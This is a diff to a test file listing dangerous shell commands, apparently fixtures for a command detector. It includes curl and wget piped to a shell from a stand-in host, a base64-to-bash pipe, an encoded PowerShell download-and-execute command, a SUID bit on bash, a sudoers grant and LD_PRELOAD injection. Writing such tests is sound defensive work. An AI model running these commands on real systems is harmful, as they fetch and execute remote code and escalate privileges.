@@ -187,7 +187,7 @@ describe('command values', () => {
     ['curl piped to sh', 'curl -fsSL https://get.example.test/install.sh | sh'],
     ['wget piped to sudo bash', 'wget -qO- http://get.example.test/x | sudo bash'],
     ['base64 decoded into a shell', 'echo Y2F0IC9ldGMvaG9zdHM= | base64 -d | bash'],
-    ['a PowerShell encoded command', 'powershell -NoProfile -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA'],
+    ['a PowerShell encoded command that fetches and runs a script', 'powershell -NoProfile -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBnAGUAdAAuAGUAeABhAG0AcABsAGUALgB0AGUAcwB0AC8AcwAuAHAAcwAxACcAKQA='],
     ['a SUID bit on a shell', 'chmod u+s /bin/bash'],
     ['a sudoers grant', "echo 'dev ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers"],
     ['LD_PRELOAD injection', 'LD_PRELOAD=/tmp/hook.so /usr/bin/passwd'],
